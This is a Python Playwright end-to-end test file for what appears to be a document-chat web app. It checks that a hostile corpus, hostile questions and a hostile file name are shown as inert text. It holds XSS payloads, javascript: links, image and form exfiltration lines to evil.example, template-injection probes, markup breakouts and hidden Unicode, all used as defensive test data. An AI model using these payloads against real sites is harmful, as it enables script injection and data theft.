"""A corpus and questions full of tricks: the browser shows words, runs nothing, asks nobody."""

from __future__ import annotations

from collections.abc import Iterator
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.conftest import Open, Server, serving
from tests.e2e.talking import ask
from tests.making import write_corpus

pytestmark = pytest.mark.e2e

TRICKS = (
    "<script>window.planted=1</script> "
    "<img src=x onerror=window.planted=1> "
    "<svg onload=window.planted=1></svg> "
    "[click](javascript:window.planted=1) "
    "![pixel](https://evil.example/p.png?q=SECRET) "
    "<https://evil.example/auto> https://evil.example/bare "
    "$\\href{javascript:window.planted=1}{x}$ "
    "{{7*7}} ${7*7} "
    "[1](/source/other.md#quote) "
    "</p></section></main><h1>Official notice</h1>"
)
NAME = "<img src=x onerror=window.planted=1> [x](javascript:window.planted=1) **b**.md"
FORM = (
    '<form action="https://evil.example"><input id="cb-live" name="cookie">'
    "<button>Log in</button></form>"
)
STYLE = '<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/x.css">'
OVERLAY = (
    '<div style="position:fixed;inset:0;z-index:9999">the window</div> and '
    '<iframe src="https://evil.example"></iframe>'
)
CASE = f"""\
---
title: 'Quarry {TRICKS}'
place: 'Quarry <b onmouseover=window.planted=1>'
themes: ['<script>window.planted=1</script>']
publisher: '</title><script>window.planted=1</script>'
source_url: 'javascript:window.planted=1'
other_sources: ['javascript:window.planted=1']
---

# Quarry {TRICKS}

## Money {TRICKS}

The quarry fund paid for the ferry and nobody trusted it {TRICKS}.

- The quarry fund opened its books to the ferry crew {FORM}.
- The quarry fund has a style {STYLE} of its own.
- The quarry fund covers {OVERLAY} the door.
- The quarry fund turns \u202eback to front\u202c and hides \U000e0041\U000e0042 nothing.

```mermaid
graph TD; A["<img src=x onerror=window.planted=1>"] --> B
```
"""
QUESTION = "How was the quarry fund for the ferry paid and trusted?"
FORBIDDEN = (
    "script, img, svg, form, input, iframe, style, link, object, embed, base, meta, table, pre code"
)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    folder = tmp_path_factory.mktemp("hostile")
    write_corpus(
        folder / "corpus", {NAME: CASE, "plain.md": "# Plain\n\nThe ferry sailed daily.\n"}
    )
    options = ("--corpus", str(folder / "corpus"), "--index", str(folder / "index"))
    with serving(folder, *options) as found:
        found.wait()
        yield found


def nothing_ran(page: Page, within: str) -> None:
    assert page.evaluate("window.planted") is None
    assert page.locator(within).locator(FORBIDDEN).count() == 0
    assert page.locator(within).locator("[onerror], [onload], [onmouseover], [style]").count() == 0
    hrefs = page.locator(f"{within} a").evaluate_all("all => all.map(a => a.getAttribute('href'))")
    allowed = ("/source/", "#quote", "/", f"{page.url.split('/source')[0]}/source/")
    assert [href for href in hrefs if not href.startswith(allowed)] == []
    assert page.locator("h1").count() == 1


def test_documents_in_the_chat(open_page: Open, hostile: Server) -> None:
    page = open_page("/", base=hostile.url)
    found = ask(page, QUESTION)
    expect(found.locator(".cb-quotation").first).to_be_visible()
    shown = found.inner_text()
    assert "<script>window.planted=1</script>" in shown
    assert "[click](javascript:window.planted=1)" in shown
    assert "{{7*7}} ${7*7}" in shown
    nothing_ran(page, ".cb-turn")
    ids = found.locator("[id]").evaluate_all("all => all.map(e => e.id)")
    assert ids == []
    assert page.locator("#cb-live").count() == 1


def test_the_question_and_its_error(open_page: Open, hostile: Server) -> None:
    page = open_page("/", base=hostile.url)
    question = f"Is the quarry fund {TRICKS.strip()}?"
    page.get_by_role("textbox").fill(question)
    page.get_by_role("textbox").press("Enter")
    heading = page.locator("#cb-current .cb-question")
    expect(page.locator("#cb-current .cb-copy")).to_be_visible(timeout=60_000)
    assert heading.inner_text() == question
    nothing_ran(page, ".cb-turn")
    page.get_by_role("textbox").fill(TRICKS * 10)
    page.get_by_role("textbox").press("Enter")
    expect(page.locator(".cb-problem")).to_be_visible(timeout=60_000)
    nothing_ran(page, ".cb-problem")


def test_the_source_page(open_page: Open, hostile: Server) -> None:
    chat = open_page("/", base=hostile.url)
    with chat.expect_popup() as popup:
        ask(chat, QUESTION).locator(".cb-cite").first.click()
    page = popup.value
    expect(page.locator("mark#quote")).to_be_in_viewport()
    assert page.title().startswith("Quarry <script>window.planted=1</script>")
    nothing_ran(page, ".cb-document > :not(pre)")
    assert "javascript:" not in "".join(
        page.locator("a").evaluate_all("all => all.map(a => a.protocol)")
    )
    assert "[U+202E]back to front[U+202C] and hides [2 hidden characters]" in page.inner_text(
        "main"
    )
    page.goto(f"{hostile.url}/sources")
    nothing_ran(page, ".cb-cases tbody")


def test_the_file_name_in_addresses(open_page: Open, hostile: Server) -> None:
    page = open_page(f"/source/{quote(NAME)}", base=hostile.url)
    expect(page.get_by_text(f"File: {NAME}")).to_be_visible()
    nothing_ran(page, ".cb-facts")
